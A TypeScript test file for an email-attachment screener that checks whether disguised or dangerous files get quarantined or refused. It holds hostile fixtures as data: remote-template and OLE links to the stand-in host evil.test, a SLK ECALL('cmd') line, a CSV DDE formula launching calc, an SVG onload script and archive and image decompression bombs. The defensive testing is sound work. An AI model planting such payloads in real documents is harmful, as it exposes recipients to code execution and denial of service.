import { deflateSync } from 'node:zlib';
import type { PDFDocument } from '@cantoo/pdf-lib';
import { strToU8, zipSync } from 'fflate';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { openDocument } from '#shared/reading/open-document.ts';
import { aSheet, refusalOf, writeParagraph } from '#test/builders/a-pdf.ts';
import { aBlankPicture } from '#test/builders/a-picture.ts';
import { aWordFile, paragraph, run, wordType } from '#test/builders/a-word-file.ts';
import { aFile, aMail } from '#test/shared/mail/a-mail.ts';
import { becomes } from './what-becomes.ts';

const latin = (text: string) => Buffer.from(text, 'latin1');
const sent = (bytes: Uint8Array, name: string) => becomes(aMail([aFile(bytes, name, 'application/pdf')]));
const oldOffice = (...streams: string[]) =>
  Buffer.concat([
    latin('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'),
    Buffer.alloc(600),
    ...streams.map((one) => Buffer.from(one, 'utf16le')),
  ]);

async function aPdfWith(put: (document: PDFDocument) => void, useObjectStreams = true): Promise<Uint8Array> {
  const sheet = await aSheet();
  writeParagraph(sheet);
  put(sheet.document);
  return sheet.document.save({ useObjectStreams });
}

async function flagsOf(bytes: Uint8Array, mediaType = 'application/pdf') {
  const result = await openDocument({ bytes, mediaType });
  return result.outcome === 'read' ? (result.reading.flags ?? []) : result.reason.code;
}

describe('a PDF that is something else as well', () => {
  test.each([
    ['a web page in front of it', latin('<html><script>x()</script>\n'), 'paper.pdf'],
    ['a web program in front of it, by the name of one', latin('<hta:application>'), 'paper.hta'],
    ['a script in front of it', latin('<?php x(); ?>'), 'paper.pdf'],
    ['nothing in front, and the name of a script', latin(''), 'paper.pdf.js'],
    ['nothing in front, and the name of a link', latin(''), 'paper.url'],
  ])('with %s is for security only', async (_title, front, name) => {
    const pdf = await aPdfWith(() => undefined);

    expect(await sent(Buffer.concat([front, pdf]), name)).toMatchObject({ word: 'QUARANTINE', codes: ['unsafe-file'] });
  });

  test('called after a web address is a paper all the same', async () => {
    expect(await sent(await aPdfWith(() => undefined), 'certificate www.relias.com')).toMatchObject({ word: 'ACCEPT' });
  });
});

describe('a Word file', () => {
  const rels = (relation: string) => ({
    'word/_rels/settings.xml.rels': strToU8(`<Relationships><Relationship Id="r1" ${relation}/></Relationships>`),
  });
  const type = (name: string) => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}"`;
  const word = (parts: Record<string, Uint8Array>) => refusalOf(aWordFile(paragraph(run('hours')), parts), wordType);

  test.each([
    [
      'a template on another machine',
      rels(`${type('attachedTemplate')} Target="http://evil.test/a.dotm" TargetMode="External"`),
    ],
    ['a template on a share', rels(`${type('attachedTemplate')} Target="file://evil/a.dotm" TargetMode="External"`)],
    [
      'an object on another machine',
      rels(`${type('oleObject')} Target="mhtml:http://evil.test!x" TargetMode="External"`),
    ],
    [
      'macros under another name',
      rels('Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.dat"'),
    ],
    ['an object dropped into it', { 'word/embeddings/oleObject1.bin': strToU8('x') }],
    ['a program dropped into it', { 'word/embeddings/paper.exe': strToU8('MZ') }],
  ])('with %s is for security only', async (_title, parts) => {
    expect(await word(parts)).toBe('unsafe-file');
  });

  test('made from a template on its writer’s own disk is read', async () => {
    const own = `${type('attachedTemplate')} Target="file:///C:\\Users\\dana\\letter.dotx" TargetMode="External"`;

    expect(await word(rels(own))).toBe('read');
  });

  test('stored in a zip as it is, is found in that zip', async () => {
    const zip = zipSync({ 'report.docx': [aWordFile(paragraph(run('hours'))), { level: 0 }] });

    expect(await sent(zip, 'papers.zip')).toMatchObject({ word: 'ACCEPT', files: ['papers.zip/report.docx'] });
  });

  test('holding archives inside archives is not unfolded by that, and says that there are files inside', async () => {
    const bomb = zipSync({ 'a.zip': zipSync({ 'b.zip': new Uint8Array(900_000) }) });

    const inside = { 'word/embeddings/a.zip': bomb };
    expect(await flagsOf(aWordFile(paragraph(run('hours')), inside), wordType)).toEqual(['files-inside']);
  });

  test('that is a bag of other papers as well says that there are files inside', async () => {
    const bag = aWordFile(paragraph(run('hours')), { 'certificate.pdf': strToU8('%PDF-1.4') });

    expect(await flagsOf(bag, wordType)).toEqual(['files-inside']);
    expect(await flagsOf(aWordFile(paragraph(run('hours'))), wordType)).toEqual([]);
  });
});

describe('what old and foreign programs open', () => {
  test.each([
    ['old Word with macros', 'hours.doc', oldOffice('WordDocument', '_VBA_PROJECT')],
    ['old Excel with a file dropped into it', 'hours.xls', oldOffice('Workbook', '\x01Ole10Native')],
    [
      'an installer called .pdf',
      'form.pdf',
      Buffer.concat([oldOffice(''), Buffer.from('84100c0000000000c000000000000046', 'hex')]),
    ],
    ['RTF with an object', 'form.rtf', latin('{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}')],
    [
      'RTF cut to its first letters, with a foreign template',
      'form.doc',
      latin('{\\rt{\\*\\template http://evil.test/x}}'),
    ],
    [
      'Word’s XML with macros',
      'form.doc',
      latin('<?xml version="1.0"?><?mso-application progid="Word.Document"?><w w:macrosPresent="yes"/>'),
    ],
    [
      'a web archive with macros',
      'form.doc',
      latin('MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\nContent-Location: editdata.mso'),
    ],
    ['a notebook of OneNote', 'form.pdf', Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex')],
    ['a shortcut called .pdf', 'form.pdf', latin('L\0\0\0\x01\x14\x02\0')],
    ['a disc called .pdf', 'form.pdf', Buffer.concat([Buffer.alloc(32_769), latin('CD001\x01'), Buffer.alloc(9_000)])],
    [
      'a virtual disk called .pdf',
      'form.pdf',
      Buffer.concat([Buffer.alloc(4_096), latin('conectix'), Buffer.alloc(504)]),
    ],
    ['a compiled help file', 'form.pdf', latin('ITSF\x03\0\0\0')],
    ['a cabinet', 'form.pdf', latin('MSCF\0\0\0\0')],
    ['a query of Excel', 'hours.iqy', latin('WEB\r\n1\r\nhttp://evil.test/')],
    ['a table of Excel that calls a program', 'hours.slk', latin('ID;P\r\nC;X1;Y1;ECALL("cmd")')],
    ['a drawing behind a long comment', 'x.svg', latin(`<!--${'-'.repeat(2_000)}--><svg onload="x()"/>`)],
  ])('%s is for security only', async (_title, name, bytes) => {
    expect(await sent(bytes, name)).toMatchObject({ word: 'QUARANTINE', codes: ['unsafe-file'] });
  });

  test('RTF and old Word without any of that are kept for a person', async () => {
    expect(await sent(latin('{\\rtf1 my hours}'), 'form.rtf')).toMatchObject({
      word: 'REVIEW',
      codes: ['unsupported-file'],
    });
    expect(await sent(oldOffice('WordDocument'), 'form.doc')).toMatchObject({
      word: 'REVIEW',
      codes: ['unsupported-file'],
    });
  });

  test('a table of formulas (.csv) is kept for a person, and not read', async () => {
    expect(await sent(latin('=cmd|"/c calc"!A1,2\r\n'), 'hours.csv')).toMatchObject({ word: 'REVIEW' });
  });
});

describe('a picture', () => {
  const chunk = (type: string, data: Uint8Array) => {
    const body = Buffer.concat([latin(type), data]);
    const around = Buffer.alloc(8);
    around.writeUInt32BE(data.length, 0);
    return Buffer.concat([around.subarray(0, 4), body, around.subarray(4)]);
  };
  const png = async (extra: Buffer) => {
    const plain = await sharp(await aBlankPicture(40, 30))
      .png()
      .toBuffer();
    return new Uint8Array(Buffer.concat([plain.subarray(0, 33), extra, plain.subarray(33)]));
  };

  test.each([
    ['a colour profile', 'iCCP', 'x\0\0'],
    ['a comment', 'zTXt', 'x\0\0'],
  ])('whose %s unfolds to 100 MB is one page, and nobody unfolds it', async (_title, type, head) => {
    const bomb = chunk(type, Buffer.concat([latin(head), deflateSync(Buffer.alloc(100_000_000), { level: 1 })]));
    const before = process.memoryUsage().rss;

    expect(await flagsOf(await png(bomb), 'image/png')).toEqual([]);
    expect(process.memoryUsage().rss - before).toBeLessThan(80_000_000);
  });

  test('with an archive behind it that ends in a comment is no picture here', async () => {
    const zip = Buffer.from(zipSync({ 'evil.pdf': strToU8('x') }));
    zip.writeUInt16LE(5, zip.length - 2);
    const both = Buffer.concat([await png(Buffer.alloc(0)), zip, latin('hello')]);

    expect(await sent(both, 'photo.png')).toMatchObject({ word: 'REVIEW', codes: ['unsupported-file'] });
  });

  test('of 65 500 by 65 500 dots, or of ten thousand pages, is refused by its header', async () => {
    const frame = Buffer.from([0xff, 0xd8, 0xff, 0xc0, 0, 17, 8, 0xff, 0xdc, 0xff, 0xdc, 3, ...Array(20).fill(0)]);
    const tiff = Buffer.alloc(8 + 10_000 * 30);
    tiff.write('II*\0', 'latin1');
    tiff.writeUInt32LE(8, 4);
    for (let page = 0; page < 10_000; page += 1) {
      const at = 8 + page * 30;
      tiff.writeUInt16LE(2, at);
      for (const [place, tag] of [256, 257].entries()) {
        tiff.writeUInt16LE(tag, at + 2 + place * 12);
        tiff.writeUInt16LE(3, at + 4 + place * 12);
        tiff.writeUInt32LE(1, at + 6 + place * 12);
        tiff.writeUInt16LE(9, at + 10 + place * 12);
      }
      tiff.writeUInt32LE(at + 30, at + 26);
    }

    expect(await refusalOf(new Uint8Array(frame), 'image/jpeg')).toBe('too-large');
    expect(await refusalOf(new Uint8Array(tiff), 'image/tiff')).toBe('too-large');
  });

  test('of an iPhone made of a thousand tiles is refused by the size that they make', async () => {
    const spatial = (width: number, height: number) => {
      const size = Buffer.alloc(12);
      size.writeUInt32BE(width, 4);
      size.writeUInt32BE(height, 8);
      return Buffer.concat([latin('ispe'), size]);
    };
    const head = latin('\0\0\0\x18ftypheic\0\0\0\0mif1heic');
    const heic = Buffer.concat([
      head,
      spatial(512, 512),
      Buffer.alloc(70_000),
      spatial(32_768, 32_768),
      Buffer.alloc(64),
    ]);

    expect(await refusalOf(new Uint8Array(heic), 'image/heic')).toBe('too-large');
  });
});
